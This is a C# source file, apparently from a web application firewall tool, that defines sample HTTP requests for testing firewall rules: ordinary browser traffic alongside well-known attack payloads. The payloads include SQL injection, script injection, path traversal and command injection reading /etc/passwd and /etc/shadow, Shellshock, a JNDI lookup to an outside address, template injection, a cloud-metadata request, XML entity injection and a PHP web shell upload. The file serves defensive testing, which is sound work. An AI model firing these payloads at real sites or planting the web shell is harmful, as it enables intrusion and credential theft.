using System.Text;

namespace Palisade.Cli.Sandbox.Samples;

/// <summary>
/// The requests that every site is asked with: what browsers send day by day, and the best known form of each kind of attack. A good configuration lets the first
/// pass and blocks most of the others; what is told is how a change alters that.
/// </summary>
internal static class BuiltInSamples
{
    private const string Browser =
        """
        User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0
        Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8
        Accept-Language: en-GB,en;q=0.5
        Sec-Fetch-Dest: document
        Sec-Fetch-Mode: navigate
        Sec-Fetch-Site: none
        Sec-Fetch-User: ?1
        """;

    private const string Form = "application/x-www-form-urlencoded";
    private const string Json = "application/json";
    private const string Boundary = "----palisade5d1c";

    /// <summary>All of them, ordinary ones first.</summary>
    public static IReadOnlyList<Sample> All { get; } =
    [
        Ordinary("page", "GET /"),
        Ordinary("search", "GET /search?q=garden+chairs&page=2&sort=price-asc"),
        Ordinary("words of a search", "GET /search?q=rock+%26+roll+records%2C+best+of+%2770s"),
        Ordinary("asset", "GET /assets/app.min.js?v=3f2a91"),
        Ordinary("form", "POST /contact", Form, "name=Ann+O%27Neil&email=ann%40example.com&message=Could+you+please+send+me+a+list+of+your+opening+hours%3F"),
        Ordinary("sign-on", "POST /login", Form, "user=ann&password=s3cret%21Word&remember=1"),
        Ordinary("json", "POST /api/orders", Json, """{"items":[{"id":4711,"quantity":2}],"note":"Please ring twice; the dog is friendly.","express":false}"""),
        Ordinary("upload", "POST /upload", $"multipart/form-data; boundary={Boundary}", Upload("holiday.txt", "text/plain", "Two weeks at the sea.\nSun, wind & rain.\n")),

        Attack("sql in a query", "GET /item?id=1%27%20UNION%20SELECT%20user%2Cpassword%20FROM%20users--%20-"),
        Attack("sql in a form", "POST /login", Form, "user=admin%27+OR+%271%27%3D%271&password=x"),
        Attack("script in a query", "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
        Attack("script in json", "POST /api/comments", Json, """{"text":"<img src=x onerror=alert(1)>"}"""),
        Attack("path traversal", "GET /download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
        Attack("command in a query", "GET /ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow"),
        Attack("command in a header", "GET /cgi-bin/status", header: "X-Forwarded-Host: () { :; }; /bin/bash -c 'id'"),
        Attack("lookup in a header", "GET /", header: "X-Api-Version: ${jndi:ldap://198.51.100.7/a}"),
        Attack("php code", "POST /index.php", Form, "page=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%3F%3E"),
        Attack("template", "GET /hello?name=%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"),
        Attack("request to the inside", "GET /fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F"),
        Attack("xml entity", "POST /api/xml", "application/xml", """<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>"""),
        Attack("uploaded program", "POST /upload", $"multipart/form-data; boundary={Boundary}", Upload("photo.php", "image/jpeg", "<?php passthru($_REQUEST['c']); ?>")),
    ];

    private static Sample Ordinary(string name, string line, string? type = null, string body = "") => Make(name, true, line, type, body, null);

    private static Sample Attack(string name, string line, string? type = null, string body = "", string? header = null) => Make(name, false, line, type, body, header);

    private static Sample Make(string name, bool ordinary, string line, string? type, string body, string? header)
    {
        List<string> lines = [$"{line} HTTP/1.1", .. Browser.Split('\n')];
        if (header is not null) lines.Add(header);
        if (type is not null) lines.Add($"Content-Type: {type}");
        return new(name, ordinary, null, Encoding.Latin1.GetBytes(string.Concat(lines.Select(l => l.TrimEnd('\r') + "\r\n"))), Encoding.UTF8.GetBytes(body));
    }

    private static string Upload(string file, string type, string content) =>
        $"--{Boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file}\"\r\nContent-Type: {type}\r\n\r\n{content}\r\n--{Boundary}--\r\n";
}
